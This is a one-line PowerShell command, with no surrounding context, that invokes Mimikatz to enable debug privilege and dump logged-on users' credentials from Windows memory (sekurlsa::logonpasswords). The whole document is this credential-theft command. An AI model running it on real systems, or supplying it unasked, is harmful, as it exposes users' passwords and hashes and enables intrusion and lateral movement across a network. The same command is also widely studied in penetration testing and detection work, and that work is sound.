Invoke-Mimikatz -Command '"privilege::debug" "sekurlsa::logonpasswords"'
